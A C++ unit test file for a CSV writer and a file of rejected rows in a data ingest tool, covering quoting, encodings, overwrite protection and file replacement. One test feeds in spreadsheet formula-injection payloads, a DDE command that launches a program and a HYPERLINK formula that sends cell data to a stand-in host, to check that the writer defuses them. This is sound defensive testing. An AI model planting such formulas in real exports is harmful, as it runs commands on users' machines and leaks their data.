#include "ingest/rows/rejects_file.hpp"
#include "csv/csv_writer.hpp"
#include "failure/input_error.hpp"
#include "ingest/rows/column_mapping.hpp"
#include "test.hpp"

using cis::programs::CsvReader;
using cis::programs::CsvRecord;
using cis::programs::CsvWriter;
using cis::programs::InputError;
using cis::programs::ingest_command::ColumnMapping;
using cis::programs::ingest_command::RejectsFile;

namespace {

using Cells = std::vector<std::string>;

const std::string mark = "\xEF\xBB\xBF";

std::vector<CsvRecord> records_of(const std::filesystem::path& file, char delimiter = ',',
                                  const std::string& encoding = "utf-8") {
    CsvReader reader(file, {.delimiter = delimiter, .encoding = encoding});
    std::vector<CsvRecord> records;
    while (auto record = reader.next()) {
        records.push_back(std::move(*record));
    }
    return records;
}

/// Rejects every broken row of a file.
void reject_broken(const std::filesystem::path& input, const std::filesystem::path& rejects) {
    CsvReader reader(input);
    RejectsFile file(rejects, {.header = reader.header()}, false);
    while (auto record = reader.next()) {
        if (record->fault) {
            file.write(*record, *record->fault);
        }
    }
}

}  // namespace

TEST_CASE("a written CSV file can be read back") {
    const char delimiter = GENERATE(',', ';', '\t');
    const cis::test::TempDirectory directory;
    const std::vector<Cells> rows = {
        {"plain", "", " spaces "},
        {"\"", "say \"hi\"", "\"\""},
        {",", ";", "\t"},
        {"\n", "a\r\nb", "\r"},
        {"é漢😀", std::string(100000, '"'), ""},
        {"", "", ""},
    };
    const auto file = directory.path("written.csv");
    CsvWriter writer(file, delimiter);
    writer.write({"a", "b", "c"});
    for (const Cells& row : rows) {
        writer.write(row);
    }

    const auto records = records_of(file, delimiter);
    REQUIRE(records.size() == rows.size());
    for (std::size_t row = 0; row < rows.size(); ++row) {
        CAPTURE(row);
        CHECK_FALSE(records[row].fault);
        CHECK(records[row].cells == rows[row]);
    }
}

TEST_CASE("a row of a CSV file is in the file as soon as it is written") {
    const cis::test::TempDirectory directory;
    const auto file = directory.path("written.csv");
    CsvWriter writer(file);
    writer.write({"a", "b"});
    CHECK(read_file(file) == "\"a\",\"b\"\n");
    writer.write({"1", "x\"y"});
    CHECK(read_file(file) == "\"a\",\"b\"\n\"1\",\"x\"\"y\"\n");
}

TEST_CASE("a CSV file that cannot be written is named") {
    const cis::test::TempDirectory directory;
    CHECK_THROWS_WITH(CsvWriter(directory.path("absent/written.csv")),
                      ContainsSubstring("absent/written.csv"));
    const auto file = directory.path("written.csv");
    const CsvWriter first(file);
    CHECK_THROWS_AS(CsvWriter(file), std::system_error);  // it exists
}

TEST_CASE("rejects carry their reason in front of the input's columns") {
    const cis::test::TempDirectory directory;
    const auto rejects = directory.path("rejects.csv");
    RejectsFile file(rejects, {.header = {"name", "email"}}, false);
    CHECK_FALSE(std::filesystem::exists(rejects));  // whatever ends the process now
    file.write({.line = 7, .cells = {"Ann, \"A\"", "ann@example.com"}},
               {.param = "email", .message = "taken"});
    CHECK(read_file(rejects) == mark +
                                    "\"reject_line\",\"reject_param\",\"reject_message\",\"name\",\"email\"\n"
                                    "\"7\",\"email\",\"taken\",\"Ann, \"\"A\"\"\",\"ann@example.com\"\n");
}

TEST_CASE("rejects of rejects have the lines of the first file, and none for a row that was added") {
    const cis::test::TempDirectory directory;
    std::filesystem::path input = directory.write(
        "input.csv",
        mark + "reject_line;reject_param;reject_message;name;email\n7;name;no;Ann;x;y\n;;;Bob;x;y\n");
    for (int round = 2; round < 5; ++round) {
        const auto rejects = directory.path("rejects-" + std::to_string(round) + ".csv");
        reject_broken(input, rejects);
        const auto records = records_of(rejects);
        REQUIRE(records.size() == 2);
        CHECK(records[0].line == 7);
        CHECK(records[0].cells.at(0) == "7");
        CHECK(records[0].cells.at(3) == "Ann");
        CHECK(records[1].line == 3);
        CHECK(records[1].is_added);
        CHECK(records[1].cells.at(0).empty());
        input = rejects;
    }
}

TEST_CASE("rejects keep every cell of a broken row, byte for byte") {
    const cis::test::TempDirectory directory;
    const auto input = directory.write("input.csv",
                                       "name,email\n\"An\nn\"\nBo,b@example.com,x,\nRen\xE9,r\0@\n"s
                                       "Di \"D\",d@example.com,\"\"\"x\"\n");
    const auto rejects = directory.path("rejects.csv");
    reject_broken(input, rejects);
    const auto records = records_of(rejects);
    REQUIRE(records.size() == 4);
    CHECK(records[0].cells == Cells{"2", "", "too few columns: 1, but the header has 2", "An\nn"});
    CHECK(records[1].cells ==
          Cells{"4", "", "too many columns: 3, but the header has 2", "Bo", "b@example.com", "x"});
    CHECK(records[2].cells == Cells{"5", "name",
                                    "is not valid UTF-8: save the file again as \"CSV UTF-8\", or name its "
                                    "encoding with --encoding",
                                    "Ren\xE9", "r\xEF\xBF\xBD@"});
    CHECK(records[3].cells.at(3) == "Di \"D\"");
    CHECK(records[3].cells.at(5) == "\"x");
}

TEST_CASE("rejects are ingested like any file once they are mended") {
    const cis::test::TempDirectory directory;
    const auto input = directory.write("input.csv", "name,email\nAnn,a@example.com,y\nBo,b@example.com,x\n");
    const auto rejects = directory.path("rejects.csv");
    reject_broken(input, rejects);

    auto text = read_file(rejects);
    text.erase(text.find(",\"y\""), 4);
    const auto mended = directory.write("mended.csv", text);

    CsvReader reader(mended);
    const ColumnMapping mapping(reader.header());
    const auto first = reader.next();
    REQUIRE(first);
    REQUIRE_FALSE(first->fault);
    CHECK(mapping.row(*first).params.name == "Ann");
    CHECK(mapping.row(*first).params.email == "a@example.com");

    const auto second = reader.next();
    REQUIRE(second);
    REQUIRE(second->fault);
    const auto rest = directory.path("rest.csv");
    RejectsFile again(rest, {.header = reader.header()}, false);
    again.write(*second, *second->fault);
    CHECK(read_file(rest) ==
          mark +
              "\"reject_line\",\"reject_param\",\"reject_message\",\"name\",\"email\"\n"
              "\"3\",\"\",\"too many columns: 6, but the header has 5\",\"Bo\",\"b@example.com\",\"x\"\n");
}

TEST_CASE("rejects overwrite nothing") {
    const cis::test::TempDirectory directory;
    const auto input = directory.write("input.csv", "name,email\nAnn,\n");
    CHECK_THROWS_AS(RejectsFile(input, {}, false), InputError);
    CHECK(read_file(input) == "name,email\nAnn,\n");
}

TEST_CASE("rejects do not touch a file that somebody has made since the run began") {
    const cis::test::TempDirectory directory;
    const auto rejects = directory.path("rejects.csv");
    {
        RejectsFile file(rejects, {.header = {"email"}}, false);
        (void)directory.write("rejects.csv", "of somebody else");
        CHECK_THROWS_AS(file.write({.line = 2, .cells = {""}}, {.message = "no"}), std::system_error);
    }
    CHECK(read_file(rejects) == "of somebody else");
}

TEST_CASE("a draft of rejects is there from the first row on") {
    const cis::test::TempDirectory directory;
    const auto earlier = directory.write("rejects.csv", "earlier");
    const auto files = [&] {
        return std::distance(std::filesystem::directory_iterator(directory.path(".")), {});
    };
    RejectsFile file(earlier, {.header = {"email"}}, true);
    CHECK(files() == 1);
    file.write({.line = 2, .cells = {""}}, {.message = "no"});
    CHECK(files() == 2);
}

TEST_CASE("rejects replace an earlier file when they are whole, and only if there are any") {
    const cis::test::TempDirectory directory;
    const auto earlier = directory.write("rejects.csv", "earlier");
    const auto files = [&] {
        return std::distance(std::filesystem::directory_iterator(directory.path(".")), {});
    };
    SECTION("with rows") {
        RejectsFile file(earlier, {.header = {"email"}}, true);
        CHECK(file.path() == earlier);
        file.write({.line = 2, .cells = {""}}, {.message = "no"});
        CHECK(read_file(earlier) == "earlier");
        file.end(true);
        CHECK_THAT(read_file(earlier), ContainsSubstring("\"2\",\"\",\"no\""));
    }
    SECTION("without rows, no file is left of a whole run") {
        RejectsFile(earlier, {}, true).end(true);
        CHECK_FALSE(std::filesystem::exists(earlier));
    }
    SECTION("a run that has come to nothing leaves the earlier one") {
        {
            const RejectsFile file(earlier, {}, true);
        }
        CHECK(read_file(earlier) == "earlier");
    }
    CHECK(files() == (std::filesystem::exists(earlier) ? 1 : 0));
}

TEST_CASE("a file of rejects without rows is removed") {
    const cis::test::TempDirectory directory;
    const auto rejects = directory.path("rejects.csv");
    {
        const RejectsFile file(rejects, {.header = {"email"}}, false);
    }
    CHECK_FALSE(std::filesystem::exists(rejects));
    RejectsFile(rejects, {.header = {"email"}}, false).write({.line = 2, .cells = {""}}, {.message = "no"});
    CHECK(std::filesystem::exists(rejects));
}

TEST_CASE("rejects of a file in another encoding are read with the same options") {
    const cis::test::TempDirectory directory;
    const auto input =
        directory.write("input.csv", "name;email\nJos\xE9;j@example.com;x\nA\x81;a@example.com\n");
    CsvReader reader(input, {.encoding = "windows-1252"});
    const auto rejects = directory.path("rejects.csv");
    RejectsFile file(rejects, {.header = reader.header(), .delimiter = reader.delimiter()}, false);
    while (const auto record = reader.next()) {
        REQUIRE(record->fault);
        file.write(*record, *record->fault);
    }
    const auto records = records_of(rejects, ';', "windows-1252");
    REQUIRE(records.size() == 2);
    CHECK(records[0].cells.at(3) == "José");
    // Not mended, the other row is rejected again.
    CHECK(records[1].fault);
}

TEST_CASE("no cell of the rejects is a formula, and all are read back as they were") {
    const cis::test::TempDirectory directory;
    const Cells header{"=title", "name", "data.note"};
    const std::vector<Cells> rows{
        {"=1+1", "=cmd|' /C calc'!A0", R"csv(=HYPERLINK("http://x.invalid/?"&A1,"CV"))csv"},
        {"'=1", "''@x", "''\t"},
        {"-1.5", "'-1.5", "'-1.5 x"},
        {"+49 170", "\xC2\xA0-Ann",
         "\xEF\xBC\x9D"
         "1"},
        {"'", "'Ann'", "'' =1"},
        {"C:\\", "a\\\",b", "\\\n"},
        {"", "\r", "\xE2\x80\x8B@x"},
    };
    const auto rejects = directory.path("rejects.csv");
    RejectsFile file(rejects, {.header = header}, false);
    for (const Cells& row : rows)
        file.write({.line = 2, .cells = row}, {.param = "=title", .message = "-refused: @all"});
    const std::string text = read_file(rejects);
    for (const std::string formula : {"\"=", "\"+", "\"@", "\"-r", "\"\t", "\"\r"}) {
        CAPTURE(formula);
        CHECK_THAT(text, !ContainsSubstring("," + formula));
    }
    CsvReader reader(rejects);
    CHECK(Cells(reader.header().begin() + 3, reader.header().end()) == header);
    for (const Cells& row : rows) {
        const auto record = reader.next();
        REQUIRE(record);
        CHECK_FALSE(record->fault);
        CHECK(record->cells.at(1) == "=title");
        CHECK(Cells(record->cells.begin() + 3, record->cells.end()) == row);
    }
}

TEST_CASE("apostrophes of other programs stay") {
    const cis::test::TempDirectory directory;
    CHECK(records_of(directory.write("in.csv", "name,data.note\n'-Ann,'@home'\n")).at(0).cells ==
          Cells{"'-Ann", "'@home'"});
    // A column of ours does not make the file ours.
    for (const std::string title : {"interview_id", "reject_line"}) {
        const auto records = records_of(
            directory.write("in.csv", title + ",name,data.note\n1,'-Ann,'@home'\n2,Bo,\"a\\\",b\n"));
        REQUIRE(records.size() == 2);
        CHECK(records[0].cells == Cells{"1", "'-Ann", "'@home'"});
        CHECK(records[1].held_back_to == 3);
    }
}

TEST_CASE("a file of ours is known by all its columns") {
    const std::string rejects = "reject_line,reject_param,reject_message,name";
    const std::string exported =
        "interview_id,candidate_id,posting_id,name,email,score,status,created_at,interviewed_at,shortlisted,"
        "dismissed,metadata,agent_summary,workflow,data,interview_url";
    struct Header {
        std::string titles;
        bool is_own;
    };
    for (const Header& header :
         {Header{rejects, true}, Header{exported, true}, Header{exported + ",data.note", true},
          Header{"name," + rejects, false}, Header{"reject_line,reject_message,reject_param", false},
          Header{"reject_line,reject_param", false}, Header{"interview_id,name,email", false},
          Header{"name," + exported, false}, Header{exported.substr(0, exported.rfind(',')), false}}) {
        CAPTURE(header.titles);
        const cis::test::TempDirectory directory;
        const auto record = records_of(directory.write("in.csv", header.titles + "\n'-Ann\n")).at(0);
        CHECK(record.cells.at(0) == (header.is_own ? "-Ann" : "'-Ann"));
    }
}
